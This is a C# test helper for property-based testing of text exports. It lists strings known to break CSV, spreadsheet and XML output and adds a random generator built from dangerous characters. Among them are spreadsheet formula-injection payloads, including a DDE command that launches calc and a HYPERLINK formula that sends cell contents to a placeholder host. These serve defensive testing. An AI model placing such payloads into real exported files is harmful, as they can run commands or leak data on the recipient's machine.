using CsCheck;

namespace Shouwang.Tests.Platform.Text;

/// <summary>Texts that break exports.</summary>
internal static class Nasty
{
    private static readonly string[] Known =
    [
        "", " ", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM", " =1", "\u3000=1", "\u00A0=1", "\u200B=1", "\uFEFF=1",
        "'", "''", "'=1", "\"", "\"\"", "\"=1\"", ",", "a,b", "a\"b", "a\r\nb", "\r\n", "\n", ";", "a;b", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)",
        "%0A=1", "<script>", "]]>", "&amp;", "<x:f>1</x:f>", "_x003D_1", "_x000D_", "－12.50", "-12.50", "1e5", "3.40699E+17", "340699188001010017", "真", "𠮷田", "é", "\u202E=1",
        "'\t=1", "- 1", "=", "@", "\\", "NULL", "TRUE", "#REF!", "＂＝1", "\u0085=1", "\u2028=1",
    ];

    private static readonly Gen<string> Random = Gen.String[Gen.Char["=+-@＝＋－＠\t\r\n'\", ;\u3000\u200B中a1_x<>&"], 0, 10];

    public static readonly Gen<string> Text = Gen.Select(Gen.Int[0, 2 * Known.Length], Random, (at, random) => at < Known.Length ? Known[at] : random);
}
